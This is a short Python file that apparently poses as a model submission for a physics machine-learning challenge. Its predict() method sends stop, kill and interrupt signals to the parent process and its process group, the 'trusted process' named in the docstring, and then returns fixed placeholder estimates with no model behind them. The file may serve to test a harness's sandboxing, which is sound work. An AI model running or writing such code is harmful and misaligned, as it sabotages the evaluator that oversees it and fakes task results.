"""Kills, stops and interrupts the trusted process."""

import json
import os
import signal
from pathlib import Path

TARGETS = json.loads((Path(__file__).parent / "targets.json").read_text())


class Model:
    def __init__(self, get_train_set, systematics):
        pass

    def fit(self):
        pass

    def predict(self, test_set):
        for pid in {TARGETS["parent"], os.getppid()}:
            for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGINT):
                for send in (os.kill, os.killpg):
                    try:
                        send(pid, number)
                    except OSError:
                        continue
        return {"mu_hat": 1, "delta_mu_hat": 1, "p16": 0, "p84": 2}
